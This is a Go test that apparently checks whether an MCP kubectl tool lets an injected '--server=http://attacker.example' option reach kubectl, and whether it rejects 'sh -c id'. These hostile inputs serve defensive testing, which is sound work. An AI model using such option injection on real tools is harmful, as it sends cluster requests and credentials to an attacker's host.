package escape_test

import (
	"os"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/server"

	tokenized31 "fixtures/omcg0031/tokenized"
)

// OMCG0031 on a tool whose client validates a kubectl command line (its
// first word, shell metacharacters, and in read-only mode the operator's
// patterns) and runs it split by a tokenizer of its own: the line
// "kubectl get pods --server=…" passes, read-only mode off, and kubectl
// takes the option; the tool that refuses options refuses it. Served by
// mcp-go over Streamable HTTP, called with the go-sdk's client.
func TestOptionInjectionTokenized(t *testing.T) {
	marker := fakeKubectl(t)
	cs := connectMark(t, func(s *server.MCPServer) { tokenized31.Register(s, tokenized31.Config{}) })
	const attacker = "http://attacker.example"
	line := "kubectl get pods --server=" + attacker
	for _, tc := range []struct {
		tool    string
		flagged bool
	}{
		{"call_kubectl", true},
		{"call_kubectl_strict", false},
	} {
		os.Remove(marker)
		call(t, cs, tc.tool, map[string]any{"command": line})
		got, _ := os.ReadFile(marker)
		if escaped := strings.TrimSpace(string(got)) == attacker; escaped != tc.flagged {
			t.Errorf("%s %q: kubectl read --server= as its option: %v, want %v", tc.tool, line, escaped, tc.flagged)
		}
	}
	if text, _ := call(t, cs, "call_kubectl", map[string]any{"command": "sh -c id"}); !strings.Contains(text, "must start with kubectl") {
		t.Errorf("call_kubectl ran another program: %q", text)
	}
	if text, _ := call(t, cs, "call_kubectl_strict", map[string]any{"command": "kubectl get pods"}); strings.Contains(text, "validation error") {
		t.Errorf("call_kubectl_strict refused a command without options: %q", text)
	}
}
